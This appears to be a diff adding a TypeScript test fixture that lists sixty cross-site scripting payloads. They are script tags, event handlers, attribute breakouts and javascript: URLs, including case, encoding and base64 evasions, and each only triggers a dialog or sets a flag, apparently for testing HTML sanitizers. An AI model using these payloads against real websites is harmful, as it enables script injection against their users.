@@ -1,0 +1,80 @@
+// Sixty texts that run a script where a page takes them for HTML, for an attribute, or for an address. The control of the test proves
+// of each one that it does. The script of a payload opens a dialog or sets `globalThis.ran`.
+
+/** Elements that run a script by themselves. */
+const elements = [
+  '<script>alert(1)</script>',
+  '<ScRiPt>alert(1)</ScRiPt>',
+  '<script >ran=1</script >',
+  '<script/x>ran=1</script>',
+  '<script src=data:text/javascript,alert(1)></script>',
+  '<script type=module>alert(1)</script>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><script href=data:text/javascript,alert(1) />',
+  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
+  '<iframe src="javascript:parent.alert(1)"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<form action="javascript:alert(1)"><button>send</button></form>',
+  '<button form=x formaction="javascript:alert(1)">send</button>',
+  '<math><a xlink:href="javascript:alert(1)">text</a></math>',
+]
+
+/** Handlers of events. */
+const handlers = [
+  '<img src=x onerror=alert(1)>',
+  '<img src=x onerror="alert(1)">',
+  '<img/src=x/onerror=alert(1)>',
+  '<IMG SRC=x ONERROR=alert(1)>',
+  '<img src=x onerror=alert`1`>',
+  '<img src=x onerror=&#97;lert(1)>',
+  '<img src=x onerror=ran=1>',
+  "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
+  '<img src=data:,x onerror=confirm(1)>',
+  '<image src=x onerror=prompt(1)>',
+  '<svg onload=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><set onbegin=alert(1) attributeName=x>',
+  '<body onload=alert(1)>',
+  '<body onpageshow=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<select autofocus onfocus=alert(1)>',
+  '<textarea autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<video src=x onerror=alert(1)></video>',
+  '<video><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)></audio>',
+  '<marquee onstart=alert(1)>text</marquee>',
+  '<a tabindex=0 onclick=alert(1)>text</a>',
+  '<b onmouseover=alert(1)>text</b>',
+  '<p style="animation:x" onanimationstart=alert(1)>',
+  '<div contenteditable oninput=alert(1)>text</div>',
+]
+
+/** Texts that end the attribute, the element or the comment that they are in. */
+const endings = [
+  '"><script>alert(1)</script>',
+  "'><script>alert(1)</script>",
+  '"><img src=x onerror=alert(1)>',
+  "'><img src=x onerror=alert(1)>",
+  '" autofocus onfocus="alert(1)',
+  '" onmouseover="alert(1)',
+  "' onmouseover='alert(1)",
+  '</textarea><script>alert(1)</script>',
+  '</title><svg onload=alert(1)>',
+  '--><img src=x onerror=alert(1)>',
+]
+
+/** Addresses that are a script. */
+const addresses = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'javascript://%0aalert(1)',
+  'javascript:void(ran=1)',
+  'java\tscript:alert(1)',
+  ' javascript:alert(1)',
+  'data:text/html,<script>parent.ran=1</script>',
+]
+
+export const payloads: readonly string[] = [...elements, ...handlers, ...endings, ...addresses]
